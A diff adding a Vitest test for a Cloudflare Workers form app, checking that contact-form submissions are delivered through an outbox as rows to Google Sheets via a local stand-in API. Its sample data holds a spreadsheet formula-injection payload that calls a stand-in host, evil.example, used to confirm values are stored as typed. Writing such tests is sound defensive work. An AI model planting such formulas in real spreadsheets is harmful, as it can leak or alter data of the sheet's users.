@@ -1,0 +1,57 @@
+import { env } from "cloudflare:test";
+import { beforeEach, describe, expect, it, vi } from "vitest";
+import { contactForm } from "~/forms/contact";
+import { drainOutbox } from "~/lib/delivery/drain.server";
+import { forgetSheetsTokens, headerRow } from "~/lib/delivery/sheets.server";
+import { parseSettings } from "~/lib/settings/settings.server";
+import { loadSubmissionDetail } from "~/lib/storage/console-queries.server";
+import { STANDIN_ORIGIN, startSheetsStandin } from "../support/sheets-standin";
+import { appFetch, at, formPost, sinkEnv, standinToken } from "./helpers";
+
+// Google Sheets on the outbox, in workerd with the real local D1: the contact form (a code form) lists the
+// kind, its settings switch it on, and the drain appends the row through the stand-in that checks the
+// service account's JWT. The answer's own attempt has no route to Google here, so it waits like any
+// failed attempt and the drain delivers it.
+
+const SPREADSHEET = "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789";
+const VALID = { name: "-Grace", email: "grace@example.org", message: '=IMPORTXML("https://evil.example","//a")' };
+
+beforeEach(async () => {
+  forgetSheetsTokens();
+  await env.DB.exec("DELETE FROM delivery_attempts; DELETE FROM deliveries; DELETE FROM submissions");
+});
+
+describe("Google Sheets on the outbox", () => {
+  it("appends the header and the submission's row, values as typed, and shows it delivered", async () => {
+    vi.spyOn(console, "error").mockImplementation(() => {});
+    const standin = await startSheetsStandin([SPREADSHEET]);
+    const vars = {
+      CONTACT_WEBHOOK_URL: "",
+      CONTACT_SLACK_WEBHOOK_URL: "",
+      CONTACT_DISCORD_WEBHOOK_URL: "",
+      CONTACT_EMAIL_TO: "",
+      CONTACT_CONFIRMATION: "",
+      CONTACT_SHEETS_SPREADSHEET_ID: SPREADSHEET,
+      CONTACT_SHEETS_SERVICE_ACCOUNT_KEY: standin.keyJson,
+      CONTACT_SHEETS_API_URL: STANDIN_ORIGIN,
+    };
+    const appEnv = sinkEnv(vars);
+    const res = await appFetch(formPost("/f/contact", { ...VALID, "cf-turnstile-response": standinToken() }), appEnv);
+    expect(res.status).toBe(303);
+    const id = (res.headers.get("location") ?? "").split("/").pop()!;
+    const due = await env.DB.prepare("SELECT MAX(next_attempt_at) AS due FROM deliveries WHERE status = 'pending'").first<{
+      due: number | null;
+    }>();
+    await drainOutbox(env.DB, parseSettings(appEnv as unknown as Record<string, string>), {
+      mailer: null,
+      fetch: standin.fetch,
+      now: at((due?.due ?? Date.now()) + 1),
+    });
+    const [sheets] = (await loadSubmissionDetail(env.DB, id))?.deliveries ?? [];
+    expect([sheets.destination, sheets.status, sheets.lastError]).toEqual(["sheets", "delivered", null]);
+    const rows = standin.rows.get(`${SPREADSHEET}/Sheet1`) ?? [];
+    expect(rows[0]).toEqual(headerRow(contactForm));
+    expect(rows[1]?.slice(0, 1)).toEqual([id]);
+    expect(rows[1]?.slice(3)).toEqual([VALID.name, VALID.email, VALID.message]);
+  });
+});
